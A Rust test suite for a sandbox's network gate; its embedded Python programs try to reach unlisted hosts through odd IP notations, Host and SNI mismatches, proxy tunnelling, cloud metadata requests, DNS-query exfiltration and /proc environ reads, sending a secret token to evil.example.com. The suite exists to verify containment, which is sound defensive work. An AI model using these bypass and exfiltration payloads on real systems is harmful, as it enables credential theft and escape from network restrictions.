//! Reaching whom no rule names, in an internet of the test's own. Who was reached is seen in the log of its services.

use std::path::Path;

use pinfold_tests::{Attack, Scene, WORLD, WORLD_NEEDS, skip};

/// The log is written by the services, outside.
const LOG: &str = "elsewhere/world/log";

/// Says something to a service, whatever comes of it.
const TOOLS: &str = r#"
PROXY = ("127.0.0.1", 63128)

def say(address, data, wait=2):
    s = socket.create_connection(address, timeout=wait)
    s.sendall(data)
    return s.recv(4096)

def get(host, path="/", method="GET"):
    return f"{method} {path} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n".encode()

def tunnel(target, data):
    s = socket.create_connection(PROXY, timeout=2)
    s.sendall(f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode("latin-1"))
    s.recv(4096)
    s.sendall(data)
    return s.recv(4096)

def socks(host, port, data):
    s = socket.create_connection(PROXY, timeout=2)
    s.sendall(b"\x05\x01\x00")
    s.recv(2)
    try:
        host = b"\x01" + socket.inet_aton(host)
    except OSError:
        host = b"\x03" + bytes([len(host)]) + host.encode("latin-1")
    s.sendall(b"\x05\x01\x00" + host + struct.pack(">H", port))
    s.recv(64)
    s.sendall(data)
    return s.recv(4096)

def question(name, kind):
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    return b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00" + labels + b"\x00" + struct.pack(">HH", kind, 1)

def datagram(data, address, wait=1):
    """Whoever is answered has been noted in the log."""
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(wait)
    attempt(s.sendto, data, address)
    attempt(s.recv, 512)

def nameserver():
    with open("/etc/resolv.conf") as file:
        return next(line.split()[1] for line in file if line.startswith("nameserver"))
"#;

/// Tries something in that internet; harm is a line in the log that holds these words.
fn reaches(who: &'static str, program: &str) -> Option<Attack> {
    if let Some(missing) = WORLD_NEEDS.iter().find(|program| !is_there(program)) {
        skip(&format!("there is no {missing} here"));
        return None;
    }
    let harm = move |scene: &Scene| {
        let log = scene.read(LOG);
        let line = log.lines().find(|line| line.contains(who))?;
        Some(format!("somebody was reached: {line}"))
    };
    Some(in_world(Attack::python(format!("{TOOLS}\n{program}"))).harm(harm))
}

fn in_world(attack: Attack) -> Attack {
    attack
        .before(|scene| {
            WORLD.iter().for_each(|(file, text)| scene.write(Path::new("elsewhere/world").join(file), text));
            scene.set("WORLD", scene.path("elsewhere/world"));
            scene.set("FROM", scene.path("home/project"));
        })
        .launcher(r#"exec bash "$WORLD/enter.sh" "$@""#)
}

fn is_there(program: &str) -> bool {
    ["/usr/bin", "/usr/sbin", "/bin", "/sbin"].iter().any(|directory| Path::new(directory).join(program).exists())
}

/// Rules that name one host.
const ONE_HOST: &str = "--allow-host api.example.com";
/// Rules that name every host and port of a domain.
const A_DOMAIN: &str = "--allow-host *.example.com:*";
/// Rules that name every public host.
const EVERYBODY: &str = "--allow-host *:*";

fn is_contained(attack: Option<Attack>, rules: &str) {
    if let Some(attack) = attack {
        attack.flags(rules).is_contained();
    }
}

// ---- hosts ----

#[test]
fn a_host_that_no_rule_names_is_reached() {
    is_contained(reaches(" evil ", "say(('evil.example.com', 80), get('evil.example.com'))"), ONE_HOST);
}

#[test]
fn a_host_is_reached_while_no_rule_names_any() {
    is_contained(reaches("http", "say(('api.example.com', 80), get('api.example.com'))"), "--network rules");
}

#[test]
fn another_port_of_an_allowed_host_is_reached() {
    is_contained(reaches("tcp ssh", "say(('api.example.com', 22), b'hello')"), ONE_HOST);
}

#[test]
fn a_host_is_reached_by_its_address() {
    is_contained(reaches(" evil ", "say(('93.184.216.35', 80), get('evil.example.com'))"), ONE_HOST);
}

#[test]
fn a_host_is_reached_by_its_address_in_an_odd_notation() {
    let program = "
for text in '1572395043', '0x5db8d823', '0135.0270.0330.043', '93.12114979', '0x5d.0xb8.55331', '::ffff:93.184.216.35':
    attempt(say, (text, 80), get(text))
    attempt(tunnel, text + ':80', get(text))
    attempt(socks, text, 80, get(text))
    attempt(say, PROXY, get(text, f'http://{text}/'))
";
    is_contained(reaches(" evil ", program), ONE_HOST);
}

#[test]
fn an_address_of_the_gates_pool_is_taken_for_a_host() {
    // Whoever guesses one before its name was asked for gets nobody; the rest is the control.
    let program = "
for last in range(0, 8):
    attempt(say, (f'198.18.1.{last}', 80), get('evil.example.com'), 0.5)
say(('evil.example.com', 80), get('evil.example.com'))
";
    is_contained(reaches(" evil ", program), ONE_HOST);
}

// ---- what is near ----

#[test]
fn the_machines_credentials_are_fetched() {
    let program = "
for text in '169.254.169.254', '::ffff:169.254.169.254', '2852039166', '0xa9fea9fe', 'metadata.example.com':
    attempt(say, (text, 80), get(text, '/latest/meta-data/'))
    attempt(tunnel, text + ':80', get(text))
";
    is_contained(reaches(" metadata ", program), EVERYBODY);
}

#[test]
fn a_private_network_is_reached_by_a_name_that_leads_there() {
    is_contained(reaches(" inner ", "say(('inner.example.com', 80), get('inner.example.com'))"), A_DOMAIN);
}

#[test]
fn the_hosts_loopback_is_reached_by_a_name_that_leads_there() {
    is_contained(reaches(" loopback ", "say(('rebound.example.com', 8080), get('rebound.example.com'))"), A_DOMAIN);
}

#[test]
fn the_hosts_loopback_is_reached() {
    let program = "
for text in '127.0.0.1', 'localhost', '0.0.0.0', '127.1', '2130706433', '::ffff:127.0.0.1', '0', 'host.pinfold.internal':
    attempt(say, (text, 8080), get(text))
    attempt(tunnel, text + ':8080', get(text))
    attempt(tunnel, f'[{text}]:8080', get(text))
    attempt(socks, text, 8080, get(text))
    attempt(say, PROXY, get(text, f'http://{text}:8080/'))
";
    is_contained(reaches(" loopback ", program), EVERYBODY);
}

// ---- saying one thing and meaning another ----

#[test]
fn a_request_names_another_host_than_the_connection() {
    is_contained(reaches("GET evil.example.com", "say(('api.example.com', 80), get('evil.example.com'))"), ONE_HOST);
}

#[test]
fn a_request_names_two_hosts() {
    let program = r"
say(('api.example.com', 80), b'GET / HTTP/1.1\r\nHost: api.example.com\r\nHost: evil.example.com\r\nConnection: close\r\n\r\n')
say(('api.example.com', 80), b'GET http://evil.example.com/ HTTP/1.1\r\nHost: api.example.com\r\nConnection: close\r\n\r\n')
say(('api.example.com', 80), b'GET / HTTP/1.1\r\nHost: evil.example.com\r\nConnection: close\r\n\r\n')
";
    is_contained(reaches("evil.example.com", program), ONE_HOST);
}

#[test]
fn a_request_that_only_a_lenient_server_reads_names_another_host() {
    let program = r"
for line in 'GET ftp://evil.example.com/ HTTP/1.1', 'GET odd HTTP/1.1', 'GET\x0b/\x0bHTTP/1.1', '\x0bGET / HTTP/1.1', 'GET x:y HTTP/1.1':
    say(('api.example.com', 80), f'{line}\r\nHost: evil.example.com\r\nConnection: close\r\n\r\n'.encode())
";
    is_contained(reaches("GET evil.example.com", program), ONE_HOST);
}

#[test]
fn a_client_hello_names_another_host_than_the_connection() {
    let program = "
import ssl
context = ssl._create_unverified_context()
attempt(context.wrap_socket, socket.create_connection(('api.example.com', 443), timeout=2), server_hostname='evil.example.com')
";
    is_contained(reaches("sni api evil.example.com", program), ONE_HOST);
}

#[test]
fn a_name_ends_differently_for_whoever_reads_it() {
    let program = r"
for name in 'evil.example.com\0.api.example.com', 'api.example.com\0.evil.example.com', 'evil.example.com#api.example.com', 'api.example.com@evil.example.com', 'api.example.com.' + 'a' * 300 + '.evil.example.com', 'evil.example.com.', 'EVIL.example.com':
    attempt(tunnel, name + ':80', get('evil.example.com'))
    attempt(socks, name, 80, get('evil.example.com'))
    attempt(say, PROXY, get(name, f'http://{name}/'))
say(('evil.example.com', 80), get('evil.example.com'))
";
    is_contained(reaches(" evil ", program), ONE_HOST);
}

// ---- names as a way out ----

#[test]
fn a_secret_leaves_in_questions_for_names() {
    let program = "
name = E['KEY'] + '.evil.example.com'
for kind in 16, 1, 28, 255, 10, 5, 15, 33, 65, 12:
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(0.3)
    attempt(s.sendto, question(name, kind), (nameserver(), 53))
    attempt(s.recv, 512)
";
    let leaves = |scene: &Scene| scene.read(LOG).contains(scene.secret()).then(|| "a secret left by DNS".into());
    if let Some(attack) = reaches("nobody", program) {
        attack.before(|scene| scene.set("KEY", scene.secret())).harm(leaves).flags(ONE_HOST).is_contained();
    }
}

#[test]
fn a_name_server_elsewhere_is_asked() {
    let program = "
datagram(question('evil.example.com', 16), ('93.184.216.34', 53))
";
    is_contained(reaches("udp dns-of-others", program), ONE_HOST);
}

// ---- what is not TCP ----

#[test]
fn a_datagram_reaches_an_allowed_host() {
    let program = "
datagram(b'initial', ('api.example.com', 443))
datagram(b'initial', ('93.184.216.34', 443))
";
    is_contained(reaches("udp quic", program), "--allow-host api.example.com:* --allow-host 93.184.216.34:*");
}

#[test]
fn an_echo_request_is_answered() {
    let program = r"
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
s.settimeout(1)
s.sendto(b'\x08\0\0\0\0\0\0\1', ('93.184.216.34', 0))
s.recv(64)
loot('it lives')
";
    if let Some(attack) = reaches("nobody", program) {
        attack.boasts().flags("--allow-host 93.184.216.34:*").is_contained();
    }
}

// ---- the gate itself ----

#[test]
fn the_gates_own_sockets_are_dialled() {
    let program = r"
import ssl
for address in ('127.0.0.1', 63127), ('::1', 63127), ('198.18.0.1', 53), ('198.18.0.1', 63127), ('198.18.0.1', 80):
    attempt(say, address, get('evil.example.com'))
    attempt(say, address, b'CONNECT evil.example.com:80 HTTP/1.1\r\n\r\n' + get('evil.example.com'))
    attempt(tunnel, f'{address[0]}:{address[1]}', get('evil.example.com'))
say(('evil.example.com', 80), get('evil.example.com'))
";
    is_contained(reaches(" evil ", program), ONE_HOST);
}

#[test]
fn another_host_is_reached_through_the_proxy() {
    let program = "
attempt(tunnel, 'evil.example.com:80', get('evil.example.com'))
attempt(socks, 'evil.example.com', 80, get('evil.example.com'))
attempt(say, PROXY, get('evil.example.com', 'http://evil.example.com/'))
attempt(say, PROXY, get('api.example.com', 'http://evil.example.com/'))
attempt(say, PROXY, get('evil.example.com', 'http://api.example.com/'))
attempt(tunnel, 'api.example.com:80', get('evil.example.com'))
say(('evil.example.com', 80), get('evil.example.com'))
";
    is_contained(reaches("evil", program), ONE_HOST);
}

#[test]
fn many_connections_make_the_gate_careless() {
    let program = "
held = []
enough = time.monotonic() + 15
for number in range(3000):
    if time.monotonic() > enough:
        break
    host = 'evil.example.com' if number % 3 else 'api.example.com'
    try:
        s = socket.create_connection((host, 80), timeout=2)
        s.setblocking(False)
        s.send(get(host))
        held.append(s)
    except OSError:
        pass
    if len(held) > 400:
        held.pop(0).close()
";
    is_contained(reaches(" evil ", program), ONE_HOST);
}

// ---- secrets ----

/// A secret that may go to one host only.
const SECRET: &str = "[network]
mode = 'rules'
allow = ['api.example.com', 'evil.example.com']
[secrets.token]
from = { env = 'TOKEN' }
hosts = ['api.example.com']
in = 'header:Authorization'
";

/// Does something with `TOKEN`, through connections whose certificates nobody looks at. Harm: the value is inside, or at
/// another host than its own.
fn takes_the_secret(program: &str) -> Option<Attack> {
    let tools = r#"
import base64, http.client, ssl
TOKEN = E["TOKEN"]

def ask(host, path="/", secure=True, method="GET", body=None, **headers):
    unverified = ssl._create_unverified_context()
    c = http.client.HTTPSConnection(host, timeout=3, context=unverified) if secure else http.client.HTTPConnection(host, timeout=3)
    c.request(method, path, body, headers)
    return c.getresponse().read()
"#;
    let strayed = |scene: &Scene| {
        let log = scene.read(LOG);
        let line = log.lines().find(|line| line.contains(" evil ") && line.contains(scene.secret()))?;
        Some(format!("the secret went astray: {line}"))
    };
    let attack = reaches("nobody", &format!("{tools}\n{program}"))?;
    Some(attack.harm(strayed).robs().flags("--policy $OUTSIDE/rules.toml").before(|scene| {
        scene.write("elsewhere/rules.toml", SECRET);
        scene.set_for_caller("TOKEN", scene.secret());
    }))
}

#[test]
fn a_secret_is_read_from_the_environment() {
    takes_the_secret("loot(TOKEN)").iter().for_each(Attack::is_contained);
}

#[test]
fn a_secret_is_sent_to_another_host() {
    let program = "
for secure in True, False:
    attempt(ask, 'evil.example.com', secure=secure, Authorization=TOKEN)
    attempt(ask, 'evil.example.com', '/?key=' + TOKEN, secure=secure)
    attempt(ask, 'evil.example.com', secure=secure, method='POST', body=TOKEN)
    attempt(ask, 'evil.example.com', secure=secure, Authorization='Basic ' + base64.b64encode(b'user:' + TOKEN.encode()).decode())
    attempt(ask, 'api.example.com', secure=secure, Authorization=TOKEN, Host='evil.example.com')
";
    takes_the_secret(program).iter().for_each(Attack::is_contained);
}

#[test]
fn a_secret_comes_back_in_an_answer() {
    let program = "
attempt(lambda: loot(ask('api.example.com', '/echo', Authorization='Bearer ' + TOKEN)))
attempt(lambda: loot(ask('api.example.com', '/echo', Authorization=TOKEN)))
attempt(lambda: loot(ask('api.example.com', '/echo', secure=False, Authorization=TOKEN)))
";
    takes_the_secret(program).iter().for_each(Attack::is_contained);
}

#[test]
fn the_memory_of_the_gate_is_read() {
    // Whoever is not in a process table of his own finds it among the processes of the user.
    let program = "
for pid in filter(str.isdigit, os.listdir('/proc')):
    for file in 'environ', 'cmdline':
        attempt(steal, f'/proc/{pid}/{file}')
";
    takes_the_secret(program).iter().for_each(Attack::is_contained);
}
